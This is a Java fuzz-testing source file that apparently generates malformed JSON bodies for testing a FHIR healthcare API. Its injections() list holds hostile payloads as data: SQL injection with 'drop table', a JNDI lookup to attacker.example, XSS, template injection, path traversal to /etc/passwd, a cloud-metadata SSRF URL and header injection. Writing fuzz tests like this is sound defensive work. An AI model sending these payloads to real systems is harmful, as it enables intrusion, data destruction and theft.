package city.onetem.platform.testing.fuzz;

import static city.onetem.platform.testing.fuzz.Gen.weight;
import static city.onetem.platform.testing.fuzz.JsonMutator.quote;

/** What a fuzzer puts into a body: each generator gives JSON text (a value, or raw text for text edits). */
final class Fragments {

    private Fragments() {
    }

    /** A value of some JSON type, most often not the one the element takes. */
    static Gen<String> otherTypes() {
        return Gen.of("null", "true", "false", "0", "-1", "1.5", "\"\"", "\"x\"", "\" \"", "\"true\"", "\"1\"",
                "{}", "[]", "[null]", "[\"x\"]", "[[]]", "[{}]", "[1,2,3]", "{\"a\":1}", "{\"value\":\"x\"}",
                "[{\"url\":\"x\"}]", "{\"extension\":\"x\"}");
    }

    /** Arrays, objects or both nested hundreds to thousands deep. */
    static Gen<String> deepNesting() {
        Gen<Integer> depths = Gen.between(100, 5000);
        Gen<String> opens = Gen.of("[", "{\"a\":", "[{\"a\":");
        return random -> {
            int depth = depths.next(random);
            String open = opens.next(random);
            String close = switch (open) {
                case "[" -> "]";
                case "{\"a\":" -> "}";
                default -> "}]";
            };
            return open.repeat(depth) + "1" + close.repeat(depth);
        };
    }

    /** SQL, template, JNDI, markup, path, header and format injections, as JSON strings. */
    static Gen<String> injections() {
        return Gen.of("' OR '1'='1", "'; drop table referral; --", "\"; drop table care_plan; --",
                "' UNION SELECT * FROM outbox_event --", "1; select pg_sleep(10)", "$1", "?", "${jndi:ldap://attacker.example/a}",
                "#{7*7}", "{{7*7}}", "${7*7}", "<script>alert(1)</script>", "<![CDATA[x]]>", "../../../../etc/passwd",
                "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/", "javascript:alert(1)", "%00", "%s%s%s%n",
                "%24triage", "\r\nX-Injected: 1", "{\"$gt\":\"\"}", "\\", "\\u0000", "null", "undefined", "NaN", "*", "%", "_",
                "a|b", "http://x/fhir/ServiceRequest?_id=*", "#", "#missing", "urn:uuid:00000000-0000-0000-0000-000000000000",
                "ServiceRequest/../../admin", "W/\"1\"", "\u202Eevil", "\uFEFFbom").map(JsonMutator::quote);
    }

    /** Strings holding control characters: escaped (valid JSON, not valid FHIR) or raw (not valid JSON). */
    static Gen<String> controlCharacters() {
        Gen<Character> control = Gen.frequency(weight(32, Gen.chars('\u0000', '\u001f')), weight(1, Gen.just('\u007f')));
        Gen<Boolean> escapes = Gen.of(true, false);
        return random -> {
            char c = control.next(random);
            return escapes.next(random) ? quote("before" + c + "after") : "\"before" + c + "after\"";
        };
    }

    /** Any characters, surrogates and noncharacters included, and some that look like digits or space but are not. */
    static Gen<String> unicode() {
        return Gen.oneOf(
                Gen.strings(40).map(JsonMutator::quote),
                Gen.of("👩‍⚕️🏥", "مرحبا بالعالم", "Z̷͓̈a̸̦͛l̵g̶o̴", "\uFFFF\uFFFE", "\uD800", "\uDC00x", "𝕏𝔽ℍ𝕀ℝ",
                        "９４３４７６５９１９", "٩٤٣٤٧٦٥٩١٩", "943\u00A0476\u00A05919", "\u2028\u2029", "\u200B", "ǅǈ",
                        "İstanbul", "ß".repeat(20), "\u0301").map(JsonMutator::quote));
    }

    /** Strings, arrays and numbers far larger than anything real: some past the 2 MB body limit. */
    static Gen<String> huge() {
        return Gen.oneOf(
                Gen.between(50_000, 2_200_000).flatMap(length -> Gen.of("x", "é", "😀", " ")
                        .map(unit -> "\"" + unit.repeat(length / unit.length()) + "\"")),
                Gen.between(10_000, 200_000).map(n -> "[" + "1,".repeat(n) + "1]"),
                Gen.between(1_000, 100_000).map(n -> "[" + "{},".repeat(n) + "{}]"),
                Gen.between(1_000, 100_000).map("9"::repeat));
    }

    /** Numbers at and past what parsers keep, and forms JSON does not allow. */
    static Gen<String> numbers() {
        return Gen.of("1e400", "-1e400", "1e-400", "-0", "0.0", "123456789012345678901234567890",
                "9223372036854775808", "-9223372036854775809", "2147483648", "4.9e-325", "1E2", "9434765919",
                "01", "+1", ".5", "1.", "NaN", "Infinity", "-Infinity", "0x10");
    }

    /** Values that are almost right: impossible dates, codes in the wrong case, NHS numbers that fail their check. */
    static Gen<String> nearMisses() {
        return Gen.of("2026-02-30", "0000-01-01", "9999-12-31T23:59:60+14:00", "2026-13-01", "-2026-01-01",
                "2026", "2026-11", "2026-11-30T25:00:00Z", "2026-11-30T10:00:00", "1e9", "ACTIVE", " active", "active ",
                "9434765918", "943 476 5919", "0000000000", "99999999999999999999", "Patient/1", "urn:uuid:x",
                "https://fhir.nhs.uk/Id/nhs-number", "W/\"999999999999\"").map(JsonMutator::quote);
    }

    /** FHIR's form of a primitive given only as extensions (data absent), and shapes that are not quite it. */
    static Gen<String> primitiveExtensions() {
        return Gen.of(
                "{\"extension\":[{\"url\":\"http://hl7.org/fhir/StructureDefinition/data-absent-reason\",\"valueCode\":\"unknown\"}]}",
                "{\"id\":\"x1\"}", "{}", "{\"extension\":[]}", "[{\"id\":\"x1\"}]", "\"x\"");
    }

    static Gen<String> resourceTypes() {
        return Gen.frequency(
                weight(4, Gen.of("Patient", "OperationOutcome", "Bundle", "Parameters", "ServiceRequest",
                        "CarePlan", "Task", "Goal", "CareTeam", "QuestionnaireResponse", "serviceRequest", "", "Foo",
                        "Resource", "DomainResource").map(JsonMutator::quote)),
                weight(1, Gen.of("null", "1", "[\"Patient\"]", "{}")));
    }

    static Gen<String> memberNames() {
        return Gen.of("urgency", "resourceType", "_status", "status", "extension", "modifierExtension",
                "contained", "id", "meta", "__proto__", "constructor", "", " ", "fhir_comments", "text", "implicitRules",
                "language", "_id", "value", "url", "valueString", "reference", "identifier");
    }

    /** Text that breaks JSON where it is put. */
    static Gen<String> strayText() {
        return Gen.of(",", "}", "]", "{", "[", "\"", ":", "\\", "/* comment */", "// comment\n", "'", "NaN",
                "\uFEFF", "\u0000", "\u001f", "\"\":", "}{", "💥", ",,", "\"a\"");
    }

    /** Whole bodies that are not one FHIR resource in JSON. */
    static Gen<String> notJson() {
        return Gen.of("", " ", "\n", "null", "true", "0", "[]", "{}", "\"ServiceRequest\"",
                "<ServiceRequest xmlns=\"http://hl7.org/fhir\"/>", "resourceType=ServiceRequest", "{\"resourceType\":",
                "[".repeat(10_000), "{\"a\":".repeat(10_000), "{\"resourceType\":\"X\"}", "\uFEFF{}",
                "[{\"resourceType\":\"ServiceRequest\"}]", "{\"resourceType\":\"Parameters\",\"parameter\":[{}]}");
    }
}
